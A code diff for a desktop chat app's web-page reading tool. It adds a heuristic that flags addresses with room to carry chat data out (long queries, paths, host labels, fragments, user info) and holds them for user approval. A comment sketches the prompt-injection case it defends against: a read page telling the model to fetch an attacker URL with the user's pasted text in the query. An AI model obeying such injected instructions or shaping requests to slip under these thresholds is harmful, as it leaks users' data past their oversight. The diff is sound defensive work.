@@ -3,15 +3,19 @@
 from __future__ import annotations
 
 import asyncio
-from urllib.parse import urlsplit
+import dataclasses
+from typing import Any
+from urllib.parse import parse_qsl, urlsplit
 
 from agents import FunctionTool, RunContextWrapper
 from chatkit.types import ProgressUpdateEvent, URLSource
 
 from desktop.chat.agent_context import DesktopAgentContext
+from desktop.chat.approvals import allowed_in_chat
 from desktop.chat.tools.base import ToolProblem, define
 from desktop.chat.web_fetch import FetchRefused, Page, fetch_page
 
+TOOL_NAME = "read_web_page"
 MAX_TEXT_CHARS = 20_000
 # What is rarely the page's content: menus, page headers and footers, sidebars, forms.
 _BOILERPLATE = "//nav | //header | //footer | //aside | //form | //noscript | //svg"
@@ -54,5 +58,45 @@ async def read_web_page(ctx: RunContextWrapper[DesktopAgentContext], url: str) -
     return head + (text or "(The page has no readable text.)") + tail
 
 
+# An address can carry the chat's words out as easily as it brings a page in: a page or a file
+# the model read can tell it to "look up" https://attacker/?q=<what the user pasted>. Ordinary
+# reading (an article, docs, a short search) stays quiet; an address with room for a payload
+# (a long query, path, name part or fragment, or a user name in it) waits for the user, whose
+# approval card shows the whole address.
+_QUIET_QUERY = 100
+_QUIET_VALUE = 40
+_QUIET_PATH = 120
+_QUIET_SEGMENT = 64
+_QUIET_LABEL = 40
+
+
+def carries_data(url: str) -> bool:
+    """Whether an address has room to send a message-sized piece of the chat out."""
+    parts = urlsplit(url.strip())
+    try:
+        userinfo = parts.username is not None or parts.password is not None
+    except ValueError:
+        return True
+    labels = (parts.hostname or "").split(".")
+    return (
+        userinfo
+        or len(parts.query) > _QUIET_QUERY
+        or any(len(value) > _QUIET_VALUE for _, value in parse_qsl(parts.query, True))
+        or len(parts.path) > _QUIET_PATH
+        or any(len(segment) > _QUIET_SEGMENT for segment in parts.path.split("/"))
+        or any(len(label) > _QUIET_LABEL for label in labels)
+        or len(parts.fragment) > _QUIET_QUERY
+    )
+
+
+async def _asks_if_it_carries_data(
+    ctx: RunContextWrapper[DesktopAgentContext], params: dict[str, Any], call_id: str
+) -> bool:
+    if TOOL_NAME in allowed_in_chat(getattr(ctx.context, "thread", None)):
+        return False  # the user chose "Always allow" for this chat
+    return carries_data(str(params.get("url", "")))
+
+
 def build() -> FunctionTool:
-    return define(read_web_page, name="read_web_page", timeout_s=30)
+    tool = define(read_web_page, name=TOOL_NAME, timeout_s=30)
+    return dataclasses.replace(tool, needs_approval=_asks_if_it_carries_data)
